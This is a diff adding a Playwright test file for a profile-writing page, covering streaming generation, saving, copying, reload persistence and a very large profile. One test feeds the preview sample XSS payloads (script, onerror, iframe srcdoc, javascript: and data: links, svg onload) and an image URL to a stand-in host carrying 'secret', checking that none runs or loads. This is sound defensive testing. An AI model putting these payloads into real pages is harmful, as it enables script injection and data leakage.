@@ -1,0 +1,123 @@
+import type { Page } from '@playwright/test';
+import { expect, MAYA, test } from './fixtures';
+import { MOCK_API } from './origins';
+
+const textArea = (page: Page) => page.getByRole('textbox', { name: 'Profile text' });
+const openTab = (page: Page) => page.goto('/profile?tab=createProfile');
+
+/** The stored profile as the record carries it to the page. */
+async function storedProfile(page: Page): Promise<unknown> {
+  const answer = await page.request.get(`${MOCK_API}/api/user/onboarding`);
+  return ((await answer.json()) as { profileData: unknown }).profileData;
+}
+
+/** Lets the record carry another profile. */
+async function carry(page: Page, profileData: string): Promise<void> {
+  await page.route('**/api/user/onboarding', async (route) => {
+    const answer = await route.fetch();
+    const record = (await answer.json()) as Record<string, unknown>;
+    await route.fulfill({ response: answer, json: { ...record, profileData } });
+  });
+}
+
+test.beforeEach(async ({ mock }) => {
+  await mock.set({ signIn: MAYA });
+});
+
+test('a profile is written, stopped, written again, edited, saved and copied', async ({
+  page,
+  mock,
+  context,
+}) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+  await mock.set({ streamPause: 60 });
+  await openTab(page);
+  const area = textArea(page);
+  await page.getByRole('button', { name: 'Generate again' }).click();
+  await expect(area).toHaveValue(/Who is behind it/);
+  await page.getByRole('button', { name: 'Stop' }).click();
+  await expect(page.getByText(/^Stopped\. What was written so far is kept/)).toBeVisible();
+  await expect(area).toBeEditable();
+  expect(await area.inputValue()).not.toContain('日々是好日');
+  await expect(page.getByRole('button', { name: 'Save' })).toBeVisible();
+
+  await mock.set({ streamPause: 1 });
+  await page.getByRole('button', { name: 'Generate again' }).click();
+  await page.getByRole('button', { name: 'Replace it' }).click();
+  await expect(page.getByText('Your profile is written.')).toBeVisible();
+  await expect(area).toHaveValue(/日々是好日 🙂\*\n$/);
+  expect(await area.inputValue()).not.toContain('\uFFFD');
+  await expect(page.getByRole('button', { name: 'Save' })).toBeHidden();
+  // The reader has followed the text to its end.
+  expect(
+    await area.evaluate(
+      (element) => element.scrollHeight - element.scrollTop - element.clientHeight,
+    ),
+  ).toBeLessThan(40);
+
+  await area.press('Control+End');
+  await area.pressSequentially('Read by Maya.');
+  await page.getByRole('button', { name: 'Save' }).click();
+  await expect(page.getByText('Profile updated successfully.')).toBeVisible();
+  expect(await storedProfile(page)).toMatch(/Read by Maya\.$/);
+  await page.getByRole('button', { name: 'Copy' }).click();
+  await expect(page.getByText('Content copied to clipboard!')).toBeVisible();
+  expect(await page.evaluate(() => navigator.clipboard.readText())).toMatch(/Read by Maya\.$/);
+});
+
+test('unsaved changes survive a reload', async ({ page }) => {
+  await openTab(page);
+  await textArea(page).press('Control+End');
+  await textArea(page).pressSequentially('Not saved yet.');
+  await page.reload();
+  await expect(textArea(page)).toHaveValue(/Not saved yet\.$/);
+  await expect(page.getByText('These changes are from before and not saved yet.')).toBeVisible();
+  await page.getByRole('button', { name: 'Discard' }).click();
+  await expect(page.getByRole('button', { name: 'Save' })).toBeHidden();
+});
+
+test('nothing in a profile runs or is fetched when it is looked at', async ({ page }) => {
+  const asked: string[] = [];
+  await page.route('https://evil.example/**', (route) => {
+    asked.push(route.request().url());
+    return route.abort();
+  });
+  await carry(
+    page,
+    [
+      '# Profile',
+      '<script>window.hit = 1</script>',
+      '<img src=x onerror="window.hit = 1">',
+      '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
+      '[press](javascript:window.hit=1) and [data](data:text/html,<script>1</script>)',
+      '![seen](https://evil.example/pixel.png?text=secret)',
+      '![inline](data:image/svg+xml,<svg/onload=alert(1)>)',
+    ].join('\n\n'),
+  );
+  await openTab(page);
+  await page.getByText('Preview', { exact: true }).click();
+  await expect(page.getByRole('heading', { name: 'Profile', exact: true })).toBeVisible();
+  await page.getByText('press').click();
+  await expect(page.getByText('inline')).toBeVisible();
+  expect(await page.evaluate(() => Reflect.get(window, 'hit'))).toBeUndefined();
+  expect(asked).toEqual([]);
+  const panel = page.getByRole('tabpanel');
+  expect(await panel.locator('a[href], script, iframe, img').count()).toBe(0);
+
+  await page.getByRole('button', { name: 'Load image: seen' }).click();
+  await expect.poll(() => asked).toHaveLength(1);
+});
+
+test('a giant profile can be typed in and looked at', async ({ page }) => {
+  const part = 'You help first-time managers with **one** conversation a week.\n\n';
+  await carry(page, `${part.repeat(3300)}The last words.`);
+  await openTab(page);
+  const area = textArea(page);
+  await expect(area).toHaveValue(/The last words\.$/);
+  await area.press('Control+End');
+  await area.pressSequentially(' And more.');
+  await expect(area).toHaveValue(/The last words\. And more\.$/);
+  await page.getByText('Preview', { exact: true }).click();
+  // It comes section by section, which a busy machine takes its time for.
+  await expect(page.getByText('The last words. And more.')).toBeVisible({ timeout: 20_000 });
+});
